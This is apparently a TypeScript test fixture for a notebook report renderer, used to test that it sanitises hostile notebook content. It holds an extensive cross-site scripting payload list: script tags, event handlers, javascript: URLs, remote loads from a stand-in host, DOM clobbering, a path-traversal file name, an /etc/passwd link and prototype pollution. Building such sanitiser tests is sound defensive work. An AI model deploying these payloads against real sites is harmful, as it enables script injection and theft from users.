import { CLIENTELE_MIME, PLOTLY_MIME } from 'clientele';
import type { Notebook, Output } from 'clientele/notebook';
import { code, markdown, notebookOf } from './sample-report.js';

const RUN = 'globalThis.ran=(globalThis.ran||0)+1';
const AWAY = 'https://elsewhere.example';

/** Markup that would run, load, send or cover, were it let through. */
export const MARKUP: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}/a.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${AWAY}/a.png">`,
  `<img srcset="${AWAY}/b.png 2x" alt="b">`,
  `<img src="//elsewhere.example/c.png">`,
  `<img src="data:text/html,<script>${RUN}</script>">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<img lowsrc="${AWAY}/d.png" dynsrc="${AWAY}/e.avi">`,
  `<svg onload="${RUN}"><circle r="4"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${AWAY}/s.js"/></svg>`,
  `<svg><image href="${AWAY}/f.png"/></svg>`,
  `<svg><use href="${AWAY}/g.svg#x"/></svg>`,
  `<svg><style>@import url(${AWAY}/h.css);</style></svg>`,
  `<svg><foreignObject><iframe src="${AWAY}/i"></iframe></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set attributeName="onmouseover" to="${RUN}"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<a href="javascript:${RUN}">link 1</a>`,
  `<a href="JaVaScRiPt:${RUN}">link 2</a>`,
  `<a href="java\tscript:${RUN}">link 3</a>`,
  `<a href="&#106;avascript:${RUN}">link 4</a>`,
  `<a href="\u0001javascript:${RUN}">link 5</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">link 6</a>`,
  `<a href="vbscript:${RUN}">link 7</a>`,
  `<a href="blob:${AWAY}/x">link 8</a>`,
  `<a href="#x" onclick="${RUN}">link 9</a>`,
  `<a href="#x" ping="${AWAY}/ping">link 10</a>`,
  `<a href="file:///etc/passwd">link 11</a>`,
  `<iframe src="${AWAY}/j"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="${AWAY}/k.swf"></object>`,
  `<embed src="${AWAY}/l.swf">`,
  `<video src="${AWAY}/m.mp4" autoplay onloadstart="${RUN}"></video>`,
  `<audio src="${AWAY}/n.mp3" autoplay></audio>`,
  `<video poster="${AWAY}/o.png"></video>`,
  `<link rel="stylesheet" href="${AWAY}/p.css">`,
  `<link rel="prefetch" href="${AWAY}/q">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}/r">`,
  `<base href="${AWAY}/">`,
  `<style>@import '${AWAY}/s.css'; body{display:none}</style>`,
  `<p style="background:url(${AWAY}/t.png)">a</p>`,
  `<p style="background-image:url('${AWAY}/u.png')">b</p>`,
  `<p style="position:fixed;inset:0;z-index:999;background-color:red;color:red">c</p>`,
  `<p style="width:expression(${RUN})">d</p>`,
  `<p style="color:red;background-color:\\75rl(${AWAY}/v.png)">e</p>`,
  `<form action="${AWAY}/w"><input name="x" autofocus onfocus="${RUN}"><button>send</button></form>`,
  `<button formaction="javascript:${RUN}">f</button>`,
  `<input type="image" src="${AWAY}/x.png">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<details open ontoggle="${RUN}"><summary>g</summary></details>`,
  `<marquee onstart="${RUN}">h</marquee>`,
  `<body onload="${RUN}">`,
  `<div onpointerenter="${RUN}" onmouseover="${RUN}">i</div>`,
  `<p id="main" class="failure plot" data-chart="0">clobbered</p>`,
  `<img id="chart-data" name="getElementById" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="x">`,
  `<p id="chart-library">not a library</p>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script></template>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `</div></main></body><script>${RUN}</script>`,
  `<div title="<svg></svg>"><img src=x onerror=${RUN}>">j</div>`,
  `<table background="${AWAY}/y.png"><tr><td background="${AWAY}/z.png">k</td></tr></table>`,
  `<portal src="${AWAY}/1"></portal><frameset onload="${RUN}"></frameset>`,
  `<xss style="animation-name:x" onanimationstart="${RUN}">l</xss>`,
];

/** Markdown's own ways. */
export const MARKDOWN: readonly string[] = [
  `[a](javascript:${RUN})`,
  `[a](<java\nscript:${RUN}>)`,
  `![a](${AWAY}/a.png)`,
  `![a](attachment:evil.svg)`,
  `![a](attachment:%E0%A4%A)`,
  `[a][1]\n\n[1]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `![a" onerror="${RUN}](data:image/gif;base64,R0lGODlhAQABAAAAACw=)`,
  `[a](#x "\\" onclick=\\"${RUN}")`,
  `# <img src=x onerror="${RUN}"> heading`,
  `## "><script>${RUN}</script>`,
  `\`\`\`html"><script>${RUN}</script>\nx\n\`\`\``,
  `| <script>${RUN}</script> | <img src=x onerror="${RUN}"> |\n|---|---|\n| [b](javascript:${RUN}) | ![c](${AWAY}/d.png) |`,
];

const BREAKOUT = `</title></script></style></textarea></pre>"'><img src=x onerror="${RUN}"><script>${RUN}</script>`;

const output = (data: Record<string, unknown>): Output => ({
  output_type: 'display_data',
  data,
  metadata: {},
});

const chart = (data: object[], layout: object): Output => output({ [PLOTLY_MIME]: { data, layout } });

const line = { type: 'scatter', x: [1, 2, 3], y: [1, 3, 2] };

/** Outputs whose every text is an attempt. */
export const OUTPUTS: readonly Output[] = [
  ...MARKUP.map((html) => output({ 'text/html': html })),
  ...[...MARKUP.slice(0, 8), ...MARKDOWN].map((text) => output({ 'text/markdown': text })),
  ...MARKUP.filter((markup) => markup.startsWith('<svg')).map((svg) => output({ 'image/svg+xml': svg })),
  output({ 'image/png': `x" onerror="${RUN}` }),
  output({ 'image/svg+xml': BREAKOUT }),
  output({ 'text/plain': BREAKOUT }),
  output({ 'application/json': { [BREAKOUT]: BREAKOUT } }),
  output({ 'text/latex': BREAKOUT }),
  output({ [BREAKOUT]: 'x' }),
  output({ 'application/javascript': RUN }),
  {
    output_type: 'stream',
    name: 'stdout',
    text: `\u001b[31m${BREAKOUT}\u001b[0m\u001b]8;;javascript:${RUN}\u0007x\u001b]8;;\u0007`,
  },
  { output_type: 'stream', name: 'stderr', text: `\u001b[38;5;1m"><script>${RUN}</script>` },
  { output_type: 'stream', name: 'stdout', text: `a\r<img src=x onerror="${RUN}">\u0000\u001b[<script>m` },
  { output_type: 'error', ename: BREAKOUT, evalue: BREAKOUT, traceback: [`\u001b[31m${BREAKOUT}`] },
  chart(
    [
      {
        ...line,
        name: BREAKOUT,
        text: [BREAKOUT, `<a href="javascript:${RUN}">x</a>`, 'c'],
        mode: 'markers+text',
      },
    ],
    { title: { text: BREAKOUT }, showlegend: true, xaxis: { title: { text: `<a href="${AWAY}/c">x</a>` } } },
  ),
  chart([{ ...line, hovertemplate: BREAKOUT, customdata: [BREAKOUT], href: `javascript:${RUN}` }], {
    images: [{ source: `${AWAY}/d.png`, x: 0, y: 1, sizex: 1, sizey: 1 }],
    annotations: [
      { text: `<span style="background:url(${AWAY}/e.png)">x</span>`, x: 1, y: 1 },
      { text: `<b style="fill:url(${AWAY}/f.svg#a)">y</b>`, x: 2, y: 2 },
    ],
  }),
  chart([{ type: 'bar', x: [BREAKOUT, '<script>', `<img src=x onerror="${RUN}">`], y: [1, 2, 3] }], {
    updatemenus: [{ buttons: [{ label: BREAKOUT, method: 'skip' }] }],
    font: { family: `x;background:url(${AWAY}/g.png)` },
  }),
  chart([{ type: 'pie', labels: [BREAKOUT, 'b'], values: [1, 2] }], {
    template: { layout: { title: { text: BREAKOUT } } },
  }),
  chart([{ type: 'heatmap', z: [[1, 2]], x: [BREAKOUT, 'b'], colorbar: { title: { text: BREAKOUT } } }], {}),
  chart([{ type: 'image', source: `${AWAY}/h.png` }], {}),
  chart([{ type: 'scattergeo', lon: [1], lat: [2] }], { geo: { scope: 'world' } }),
  chart(
    [{ ...line, ['__proto__']: { polluted: 1 } }],
    JSON.parse('{"__proto__": {"polluted": 1}}') as object,
  ),
  output({
    [CLIENTELE_MIME]: {
      kind: 'table',
      caption: BREAKOUT,
      columns: [
        { name: BREAKOUT, title: BREAKOUT, unit: BREAKOUT, meaning: BREAKOUT },
        { name: 'n', align: 'right', format: { unit: BREAKOUT } },
      ],
      rows: [[BREAKOUT, 1.5]],
      totalRows: 9,
      note: BREAKOUT,
    },
  }),
  output({
    [CLIENTELE_MIME]: {
      kind: 'figure',
      title: BREAKOUT,
      caption: BREAKOUT,
      alternativeText: BREAKOUT,
      source: BREAKOUT,
      table: { kind: 'table', columns: [{ name: BREAKOUT }], rows: [[BREAKOUT]], totalRows: 1 },
    },
    [PLOTLY_MIME]: { data: [{ ...line, name: BREAKOUT }], layout: {} },
  }),
  output({
    [CLIENTELE_MIME]: {
      kind: 'cards',
      title: BREAKOUT,
      cards: [
        {
          key: BREAKOUT,
          name: BREAKOUT,
          color: `red;background:url(${AWAY}/i.png)`,
          subtitle: BREAKOUT,
          sections: [
            {
              heading: BREAKOUT,
              sentences: [{ text: BREAKOUT, evidence: [BREAKOUT], basis: 'data', proven: false }],
            },
          ],
        },
      ],
    },
  }),
  output({
    [CLIENTELE_MIME]: {
      kind: 'file',
      name: `../../${BREAKOUT}.html`,
      mediaType: 'text/html',
      text: `<script>${RUN}</script>`,
      description: BREAKOUT,
    },
  }),
  output({
    [CLIENTELE_MIME]: { kind: 'page', name: BREAKOUT, title: BREAKOUT, description: BREAKOUT, parts: [] },
  }),
  output({ [CLIENTELE_MIME]: { kind: 'table', columns: 'x', rows: [[1]], totalRows: 1 } }),
  output({
    [CLIENTELE_MIME]: {
      kind: 'table',
      columns: [{ name: 'a', format: { digits: 1e9 } }],
      rows: [[1]],
      totalRows: 1,
    },
  }),
  output({ [CLIENTELE_MIME]: { kind: 'constructor' } }),
];

/** A notebook in which everything that can be text is hostile. */
export const HOSTILE: Notebook = notebookOf(
  [
    markdown('m0', `# ${BREAKOUT}`),
    ...[...MARKUP, ...MARKDOWN].map((text, i) => markdown(`m${i + 1}`, text)),
    {
      cell_type: 'markdown',
      id: 'attached',
      source: '![a](attachment:evil.svg) ![b](attachment:b" onerror="x)',
      metadata: {},
      attachments: {
        'evil.svg': { 'image/svg+xml': `x" onerror="${RUN}` },
        b: { 'text/html': BREAKOUT },
      },
    },
    code('c1', BREAKOUT, OUTPUTS, [BREAKOUT]),
    code('c2', `const a = \`\${${BREAKOUT}`, [], ['parameters']),
  ],
  { title: BREAKOUT, description: BREAKOUT, language_info: { name: 'typescript' }, kernelspec: BREAKOUT },
);

export const HOSTILE_OPTIONS = {
  generatedOn: BREAKOUT,
  provenance: { [BREAKOUT]: BREAKOUT },
  failure: { cellId: 'c1', cellNumber: 2, message: BREAKOUT, line: 1, column: 1 },
  notRun: ['c2'],
};

export const PAYLOADS = MARKUP.length * 2 + MARKDOWN.length * 2 + OUTPUTS.length - MARKUP.length;
